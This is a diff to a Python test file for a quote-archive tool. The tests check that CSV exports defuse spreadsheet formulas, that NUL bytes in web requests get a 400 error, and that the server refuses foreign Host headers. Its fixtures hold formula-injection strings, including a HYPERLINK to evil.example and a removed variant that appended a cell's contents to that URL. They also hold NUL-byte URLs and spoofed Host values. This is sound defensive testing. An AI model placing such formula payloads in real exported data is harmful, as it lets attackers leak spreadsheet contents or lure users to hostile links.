@@ -4,8 +4,10 @@ spreadsheet cannot run, and a server that checks what it is asked."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import importlib
+import io
 import json
 import os
 import sqlite3
@@ -13,15 +15,23 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from starlette.testclient import TestClient
 
 from onrecord.cli import main
-from onrecord.query.export import ExportTargetError, check_output, export
+from onrecord.query.export import FORMULA_STARTS, ExportTargetError, check_output, csv_text, export
 from onrecord.store import StoredInput, open_store
+from onrecord.web import SECURITY_HEADERS, create_app
+from onrecord.web.app import API_PREFIX, allowed_hosts
 
 TEXTS = [
     '"We will not give up," Vladimir Putin, the Russian prime minister, said on Friday.',
-    '"=HYPERLINK(""http://evil.example/?x=""&A1)" is not a formula," Ana Lopez said on Monday.',
+    '"=HYPERLINK("http://evil.example","x") is a formula," Ana Lopez said on Monday.',
+    '"+44 is the code for calls to Britain," John Smith said on Tuesday.',
+    '"-5 percent is the forecast," Mary Stone said.',
+    '"@everyone should vote," Bob Brown said.',
 ]
+#: The first characters of the quotations above that a spreadsheet would run as a formula.
+FORMULA_QUOTES = 4
 
 
 @pytest.fixture(scope="module")
@@ -144,3 +154,120 @@ def test_check_output_from_python_guards_the_store_too(db, tmp_path):
     with open_store(db, readonly=True) as store, pytest.raises(ExportTargetError):
         export(store, "quotes", "jsonl", db, force=True)
     assert _quote_count(db) > 0
+
+
+# -- defect 7: CSV cells that a spreadsheet would run ----------------------------------------------------
+def _csv_contents(text: str) -> list[str]:
+    return [row["content"] for row in csv.DictReader(io.StringIO(text))]
+
+
+def test_csv_export_neutralises_formulas(runner, db, tmp_path):
+    out = tmp_path / "quotes.csv"
+    result = runner.invoke(main, ["export", "--db", str(db), "--format", "csv", "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    contents = _csv_contents(out.read_text(encoding="utf-8"))
+    assert len(contents) == len(TEXTS)
+    risky = [c for c in contents if c.startswith("'")]
+    assert len(risky) == FORMULA_QUOTES
+    assert not [c for c in contents if c.startswith(FORMULA_STARTS)]
+    assert '\'=HYPERLINK("http://evil.example","x") is a formula' in contents
+    # JSON Lines keeps the text exactly as quoted
+    jsonl = runner.invoke(main, ["export", "--db", str(db), "-o", "-"])
+    assert any(json.loads(line)["content"].startswith("=HYPERLINK") for line in jsonl.stdout.splitlines())
+    # the query command's CSV too
+    listed = runner.invoke(main, ["quotes", "--db", str(db), "--format", "csv"])
+    assert not [c for c in _csv_contents(listed.stdout) if c.startswith(FORMULA_STARTS)]
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("a=1", "a=1"),
+        ("", ""),
+    ],
+)
+def test_csv_text_follows_owasp(value, written):
+    assert csv_text(value) == written
+
+
+def test_api_csv_download_neutralises_formulas(db):
+    with TestClient(create_app(db)) as client:
+        response = client.get(f"{API_PREFIX}/quotes.csv")
+    assert response.status_code == 200
+    contents = _csv_contents(response.text)
+    assert len(contents) == len(TEXTS)
+    assert len([c for c in contents if c.startswith("'")]) == FORMULA_QUOTES
+    assert not [c for c in contents if c.startswith(FORMULA_STARTS)]
+
+
+# -- defect 8: a NUL byte is a bad parameter, not a crash --------------------------------------------------
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"{API_PREFIX}/quotes?q=%00",
+        f"{API_PREFIX}/quotes?q=a%00b",
+        f"{API_PREFIX}/quotes.csv?q=%00",
+        f"{API_PREFIX}/quotes.jsonl?q=%00",
+        f"{API_PREFIX}/quotes?outlet=%00",
+        f"{API_PREFIX}/stats/top-people?outlet=%00",
+        f"{API_PREFIX}/people/%00",
+        "/search?q=%00",
+        "/search?speaker=x%00",
+        "/person/%00",
+    ],
+)
+def test_a_nul_byte_is_400(db, url):
+    with TestClient(create_app(db), raise_server_exceptions=False) as client:
+        response = client.get(url)
+    assert response.status_code == 400, response.text[:200]
+    if url.startswith(API_PREFIX):
+        error = response.json()["error"]
+        assert error["code"] == "bad_parameter" and "NUL" in error["message"]
+    else:
+        assert "<h1>That search cannot be run</h1>" in response.text and "NUL" in response.text
+    for name, value in SECURITY_HEADERS:
+        assert response.headers[name.decode()] == value.decode()
+
+
+# -- defect 9: the Host header -------------------------------------------------------------------------------
+def test_a_loopback_server_answers_only_loopback_names(db):
+    app = create_app(db, hosts=allowed_hosts("127.0.0.1"))
+    with TestClient(app, base_url="http://127.0.0.1:8000") as client:
+        for host in ("127.0.0.1:8000", "localhost:8000", "LOCALHOST", "[::1]:8000", "127.0.0.2"):
+            assert client.get(f"{API_PREFIX}/stats", headers={"host": host}).status_code == 200, host
+        for host in ("evil.example", "evil.example:8000", "localhost.evil.example", "10.0.0.1"):
+            for url in (f"{API_PREFIX}/stats", "/", "/search?q=air"):
+                response = client.get(url, headers={"host": host})
+                assert response.status_code == 400, (host, url)
+                error = response.json()["error"]
+                assert error["code"] == "bad_host" and "--allowed-host" in error["message"]
+                assert response.headers["x-frame-options"] == "DENY"
+
+
+def test_allowed_host_adds_names_and_a_wildcard_bind_accepts_addresses(db):
+    check = allowed_hosts("127.0.0.1", ["record.example.org"])
+    assert check.allows("record.example.org:8000") and not check.allows("other.example.org")
+    wide = allowed_hosts("0.0.0.0")
+    assert wide.allows("192.168.1.20:8000") and wide.allows("localhost")
+    assert not wide.allows("evil.example")
+    one = allowed_hosts("192.168.1.20")
+    assert one.allows("192.168.1.20") and not one.allows("localhost") and not one.allows("evil.example")
+    assert allowed_hosts("127.0.0.1", ["*"]).allows("anything.example")
+
+
+def test_serve_workers_get_the_host_check(db, monkeypatch):
+    from onrecord.web.app import BOUND_ENVIRONMENT, DB_ENVIRONMENT, HOSTS_ENVIRONMENT, app_from_environment
+
+    monkeypatch.setenv(DB_ENVIRONMENT, str(db))
+    monkeypatch.setenv(BOUND_ENVIRONMENT, "127.0.0.1")
+    monkeypatch.setenv(HOSTS_ENVIRONMENT, "record.example.org")
+    with TestClient(app_from_environment()) as client:
+        assert client.get(f"{API_PREFIX}/stats", headers={"host": "evil.example"}).status_code == 400
+        assert client.get(f"{API_PREFIX}/stats", headers={"host": "record.example.org"}).status_code == 200
+        assert client.get(f"{API_PREFIX}/stats", headers={"host": "localhost"}).status_code == 200
